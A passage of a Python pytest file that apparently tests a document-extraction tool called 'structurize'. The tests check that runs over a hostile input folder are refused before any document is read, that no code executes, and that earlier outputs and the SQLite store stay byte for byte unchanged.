    """Each refused run goes over the hostile folder into an output folder holding a good run's outputs."""
    root = tmp_path_factory.mktemp("refused")
    template = root / "template"
    earlier = extract(GOOD_DIR, template / "out", "--store", str(template / "store" / "store.sqlite"))
    assert earlier.returncode == 0, earlier.stderr
    hostile = batches["root"] / "main-mixed"
    found: dict[str, Any] = {}
    for refusal in REFUSALS:
        folder = root / refusal.id
        shutil.copytree(template / "out", folder / "out")
        if refusal.store:
            shutil.copytree(template / "store", folder / "store")
        before = snapshot(folder / "out")
        try:
            with refusal.prepare(folder) as extra:
                store_before = snapshot(folder / "store") if refusal.store else {}
                ran = extract(hostile, folder / "out", *extra)
        except Skip as exc:
            found[refusal.id] = str(exc)
            continue
        found[refusal.id] = {"ran": ran, "folder": folder, "out": before, "store": store_before}
    return found


@pytest.mark.parametrize("refusal", [pytest.param(r, id=r.id) for r in REFUSALS])
def test_refused_before_any_document_and_nothing_changed(refusals: dict[str, Any], refusal: Refusal) -> None:
    found = refusals[refusal.id]
    if isinstance(found, str):
        pytest.skip(found)
    ran, folder = found["ran"], found["folder"]
    assert "Traceback" not in ran.stderr
    lines = ran.stderr.splitlines()
    # the refusal's lines only (a schema lists each of its problems on a line of its own),
    # where any document of the hostile folder that was read would have added its own
    schema_lines = refusal.id.startswith("S") and all(line.removeprefix("structurize: ").startswith("schema error: ") for line in lines)
    assert ran.returncode == refusal.exit and (len(lines) == 1 or schema_lines), ran.stderr
    assert lines[0].startswith("structurize: ") and refusal.words in lines[0], lines
    assert ran.stdout == ""
    if refusal.id.startswith("S"):
        assert lines[0].startswith(f"structurize: schema error: {refusal.id.split('-')[0]}-"), lines
    assert snapshot(folder / "out") == found["out"]  # no output written, the earlier outputs byte for byte
    assert not (folder / "CANARY").exists()  # S1: nothing executed
    if refusal.store:
        store = folder / "store" / "store.sqlite"
        assert store.name in lines[0]
        assert store.read_bytes() == found["store"]["store.sqlite"]  # never repaired, recreated or deleted
        assert {p.name for p in store.parent.iterdir()} <= {"store.sqlite", "store.sqlite-wal", "store.sqlite-shm", "store.sqlite.lock"}
